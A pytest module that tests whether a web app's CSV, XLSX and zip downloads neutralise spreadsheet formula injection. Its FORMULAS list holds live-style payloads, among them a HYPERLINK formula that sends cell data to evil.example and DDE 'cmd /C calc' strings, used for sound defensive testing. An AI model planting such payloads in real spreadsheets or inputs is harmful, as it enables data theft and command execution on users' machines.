"""Every spreadsheet a user can download is safe to open: no cell runs as a formula.

Text that the public or staff typed (feedback comments and replies, statements, partner
names, log entries) is set to formulas such as ``=HYPERLINK(...)`` and every other
character a spreadsheet treats as the start of a formula (``+ - @``, tab, carriage return,
full-width signs), then every CSV and XLSX download of the site is fetched: no cell may
start with one of those characters (plain numbers such as -1 aside), XLSX cells are never of the formula type, and the
hostile text is there, neutralised with a leading apostrophe (so each case proves the
export really carried it).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from sqlalchemy import text

from voices.exports import FORMULA_START

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "\uff1d1+1"]

# A plain number such as -1 (a vote in the Pol.is format) is read as a number, not run.
NUMBER = re.compile(r"[-+]?\d+(\.\d+)?")

# (account, url, what the hostile text was put into)
DOWNLOADS = [
    ("analyst@voices.example", "/listen/explorer/export", "comments"),
    ("analyst@voices.example", "/listen/explorer/export?format=xlsx", "comments"),
    ("lead@voices.example", "/involve/log/export.csv", "log"),
    ("lead@voices.example", "/involve/log/export.xlsx", "log"),
    ("lead@voices.example", "/involve/community/makeup.csv", None),
    ("analyst@voices.example", "/access/snapshots/{snapshot}/waits.csv", None),
    ("analyst@voices.example", "/access/snapshots/{snapshot}/ranked.csv", None),
    ("lead@voices.example", "/codesign/conversations/{conversation}/polis.zip", "statements"),
]


def _poison(site) -> dict:
    """Hostile text in what the exports carry; gives the ids the downloads need."""
    n = len(FORMULAS)
    with site.database.engine.begin() as conn:
        ids = {
            "snapshot": conn.execute(text("SELECT min(id) FROM access_snapshot")).scalar(),
            "conversation": conn.execute(text(
                "SELECT conversation_id FROM codesign_statement GROUP BY conversation_id "
                "ORDER BY count(*) DESC")).first()[0],
        }
        for number, formula in enumerate(FORMULAS):
            conn.execute(text(f"UPDATE listen_comment SET text = :t WHERE id % {n} = {number}"),
                         {"t": formula})
            conn.execute(text(f"UPDATE involve_log_entry SET project = :t, activity = :t, "
                              f"expenses_note = :t WHERE id % {n} = {number}"), {"t": formula})
            conn.execute(text(f"UPDATE involve_partner SET name = :t WHERE id % {n} = {number}"),
                         {"t": formula})
            conn.execute(text(f"UPDATE codesign_statement SET text = :t "
                              f"WHERE id % {n} = {number}"), {"t": formula})
    return ids


def _cells(name: str, content: bytes) -> list[tuple[str, object, str | None]]:
    """(file, value, XLSX cell type) of every cell of a CSV, an XLSX or a zip of CSVs."""
    if content.startswith(b"PK") and name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return [cell for inner in archive.namelist() if inner.endswith(".csv")
                    for cell in _cells(inner, archive.read(inner))]
    if content.startswith(b"PK"):
        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(content))
        return [(f"{name}!{sheet.title}", cell.value, cell.data_type)
                for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    decoded = content.decode("utf-8-sig")
    return [(name, value, None) for row in csv.reader(io.StringIO(decoded, newline=""))
            for value in row]


@pytest.fixture(scope="module")
def poisoned(demo_site):
    """This module's own copy of the demo, with hostile text in it."""
    return demo_site, _poison(demo_site)


@pytest.mark.parametrize("email,url,poisoned_with", DOWNLOADS,
                         ids=[url.split("?")[0] + ("?xlsx" if "xlsx" in url else "")
                              for _, url, _ in DOWNLOADS])
def test_downloads_never_hold_a_live_formula(poisoned, email, url, poisoned_with):
    site, ids = poisoned
    url = url.format(**ids)
    response = site.client(email).get(url)
    assert response.status_code == 200, (url, response.status_code)
    cells = _cells(url.split("?")[0], response.content)
    assert cells, f"{url} is empty"
    live = [(where, value) for where, value, kind in cells
            if kind == "f" or (isinstance(value, str) and value.startswith(FORMULA_START)
                               and not NUMBER.fullmatch(value))]
    assert not live, f"{url} has cells a spreadsheet would run: {live[:5]}"
    if poisoned_with:
        neutralised = {value for _, value, _ in cells if isinstance(value, str)}
        for formula in FORMULAS:
            if formula.startswith("\r"):
                continue  # a CSV reader may fold a lone carriage return
            assert "'" + formula.replace("\r", "\n") in neutralised or "'" + formula in \
                neutralised, f"{url} should carry {formula!r} from the {poisoned_with}, " \
                             f"neutralised with an apostrophe"


def test_every_download_route_is_checked():
    """A new CSV or XLSX download must be added to DOWNLOADS."""
    from fastapi.routing import iter_route_contexts

    from voices.settings import Settings
    from voices.web.app import create_app

    app = create_app(Settings(database_url="sqlite://", secret_key="x", run_jobs_in_app=False,
                              _env_file=None))
    spreadsheets = {ctx.path for ctx in iter_route_contexts(app.routes)
                    if "GET" in (ctx.methods or ()) and
                    ctx.path.split("?")[0].endswith((".csv", ".xlsx", ".zip", "/export"))}
    checked = {url.split("?")[0].replace("{snapshot}", "{snapshot_id}")
               .replace("{conversation}", "{conversation_id}") for _, url, _ in DOWNLOADS}
    assert spreadsheets <= checked, f"downloads not checked for formulas: " \
                                    f"{sorted(spreadsheets - checked)}"
